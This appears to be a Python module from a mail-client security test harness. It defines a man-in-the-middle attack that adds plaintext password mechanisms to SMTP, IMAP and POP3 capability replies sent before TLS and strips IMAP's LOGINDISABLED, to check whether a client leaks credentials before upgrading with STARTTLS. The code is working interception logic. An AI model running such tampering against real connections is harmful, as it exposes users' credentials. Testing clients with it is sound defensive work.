"""Negotiation tampering: capabilities changed in clear (``tamper-capa``).

The network leaves STARTTLS in place but adds password mechanisms to what the server says before TLS: ``AUTH
PLAIN LOGIN`` in the EHLO answer, ``AUTH=PLAIN`` (and no ``LOGINDISABLED``) in IMAP's capability lists, ``USER``
and ``SASL PLAIN`` in POP3's CAPA answer. A secure client still upgrades first and asks for the capabilities
again over TLS; one that logs in because AUTH was offered in clear sends its credentials to the network
(``negotiation-tampering``).

PYTEST_DONT_REWRITE
"""

from __future__ import annotations

import re

from .base import Attack, LineTap

__all__ = ["TAMPER_ATTACKS"]

_LOGINDISABLED = re.compile(r" LOGINDISABLED\b", re.IGNORECASE)


class TamperCapa(LineTap):
    def server_reply(self, lines: list[bytes]) -> None:
        if self.protocol == "smtp" and self.last_verb in ("EHLO", "HELO") and lines[-1][:3] == b"250":
            if not any(ln[4:].upper().startswith(b"AUTH") for ln in lines):
                lines = [ln[:3] + b"-" + ln[4:] for ln in lines] + [b"250 AUTH PLAIN LOGIN\r\n"]
                self.note("added 'AUTH PLAIN LOGIN' to the EHLO answer in clear", once=True)
        elif self.protocol == "imap":
            text = lines[0].decode("latin-1")
            if "CAPABILITY" in text.upper():
                changed = _LOGINDISABLED.sub("", text)
                if "AUTH=PLAIN" not in changed.upper():
                    changed = re.sub(r"(CAPABILITY [^\]\r\n]*)", r"\1 AUTH=PLAIN", changed, count=1, flags=re.I)
                if changed != text:
                    self.note("added AUTH=PLAIN (and dropped LOGINDISABLED) in the CAPABILITY list in clear", once=True)
                    lines = [changed.encode("latin-1")]
        elif self.protocol == "pop3" and self.in_capa and lines[0].rstrip(b"\r\n") == b".":
            self.note("added USER and SASL PLAIN to the CAPA answer in clear", once=True)
            lines = [b"USER\r\n", b"SASL PLAIN\r\n", *lines]
        self.link.to_client(b"".join(lines))


TAMPER_ATTACKS: tuple[Attack, ...] = (
    Attack(
        "tamper-capa",
        "tamper",
        "password mechanisms added to the capabilities in clear (STARTTLS left in place)",
        "negotiation-tampering",
        "either",
        "a secure client upgrades with STARTTLS first and trusts only the capabilities it reads over TLS",
        TamperCapa,
    ),
)
